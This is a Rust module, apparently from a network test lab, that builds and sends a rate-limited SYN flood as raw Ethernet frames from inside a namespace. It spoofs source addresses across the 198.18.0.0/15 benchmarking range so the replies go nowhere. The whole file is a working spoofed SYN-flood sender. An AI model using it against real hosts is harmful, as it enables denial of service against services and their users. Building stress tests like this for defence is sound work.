//! A bounded SYN flood from spoofed sources, sent as raw frames from inside a namespace
//! (an AF_PACKET socket on its LAN interface, so the sender's own kernel never sees the
//! handshakes it starts). Sources come from 198.18.0.0/15, the benchmarking range: no
//! namespace of the lab routes it, so the SYN-ACKs the pods answer with go nowhere.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context as _, anyhow, bail};
use etherparse::TcpHeader;
use pnet_datalink::{Channel, Config};

use super::LAN_IFACE;
use crate::{
    netns::Netns,
    packets::{L2, tcp_with},
};

/// First address of the spoofed sources (198.18.0.0/15 holds 2^17 of them).
const SPOOFED_BASE: u32 = u32::from_be_bytes([198, 18, 0, 0]);
const SPOOFED_ADDRESSES: u64 = 1 << 17;
const FIRST_SOURCE_PORT: u64 = 10_000;
/// Packets sent between two checks of the pace and the deadline.
const BATCH: u64 = 500;

/// How big and how fast.
#[derive(Debug, Clone, Copy)]
pub struct Flood {
    /// SYNs to send, each from a distinct (address, port).
    pub packets: u64,
    /// Upper bound on the send rate.
    pub per_second: u64,
    /// The flood stops here whatever was sent.
    pub max_time: Duration,
}

/// What went out.
#[derive(Debug, Clone, Copy)]
pub struct FloodReport {
    pub sent: u64,
    /// Frames the socket refused (a full transmit queue).
    pub refused: u64,
    pub elapsed: Duration,
}

impl FloodReport {
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64().max(f64::EPSILON)
    }
}

/// Sends `flood` SYNs to `target` from `netns`'s LAN interface, addressed to `to_mac`
/// (the VIP owner's MAC, as the client's ARP cache has it).
pub fn syn_flood(
    netns: &Netns,
    to_mac: [u8; 6],
    target: SocketAddrV4,
    flood: Flood,
) -> anyhow::Result<FloodReport> {
    thread::scope(|scope| {
        scope
            .spawn(|| {
                let _inside = netns.enter()?;
                send(to_mac, target, flood)
            })
            .join()
            .map_err(|_| anyhow!("the flood sender panicked"))?
    })
}

fn send(to_mac: [u8; 6], target: SocketAddrV4, flood: Flood) -> anyhow::Result<FloodReport> {
    let interface = pnet_datalink::interfaces()
        .into_iter()
        .find(|interface| interface.name == LAN_IFACE)
        .with_context(|| format!("no {LAN_IFACE} in the sender's namespace"))?;
    let from_mac = interface
        .mac
        .context("the LAN interface has no MAC")?
        .octets();
    let config = Config {
        promiscuous: false,
        ..Config::default()
    };
    let Channel::Ethernet(mut tx, _rx) =
        pnet_datalink::channel(&interface, config).context("opening an AF_PACKET socket")?
    else {
        bail!("unexpected channel type on {LAN_IFACE}");
    };
    let l2 = L2 {
        src: from_mac,
        dst: to_mac,
        vlan: None,
    };
    let started = Instant::now();
    let deadline = started + flood.max_time;
    let mut report = FloodReport {
        sent: 0,
        refused: 0,
        elapsed: Duration::ZERO,
    };
    let mut index = 0;
    while index < flood.packets && Instant::now() < deadline {
        for _ in 0..BATCH.min(flood.packets - index) {
            let frame = l2.ipv4(&syn(spoofed_source(index), target, index));
            match tx.send_to(&frame, None) {
                Some(Ok(())) => report.sent += 1,
                _ => report.refused += 1,
            }
            index += 1;
        }
        // Pace: never ahead of `per_second`.
        let due = started + Duration::from_secs_f64(index as f64 / flood.per_second as f64);
        thread::sleep(due.saturating_duration_since(Instant::now()));
    }
    report.elapsed = started.elapsed();
    Ok(report)
}

/// The `index`-th source: every address of the range once, then the next port.
fn spoofed_source(index: u64) -> SocketAddrV4 {
    let offset = u32::try_from(index % SPOOFED_ADDRESSES).expect("below 2^17");
    let port = u16::try_from(FIRST_SOURCE_PORT + index / SPOOFED_ADDRESSES)
        .expect("a flood of at most a few million packets");
    SocketAddrV4::new(Ipv4Addr::from(SPOOFED_BASE + offset), port)
}

fn syn(source: SocketAddrV4, target: SocketAddrV4, index: u64) -> Vec<u8> {
    let sequence = u32::try_from(index & u64::from(u32::MAX)).expect("masked");
    let mut header = TcpHeader::new(source.port(), target.port(), sequence, 64240);
    header.syn = true;
    tcp_with(source, target, header, &[])
}
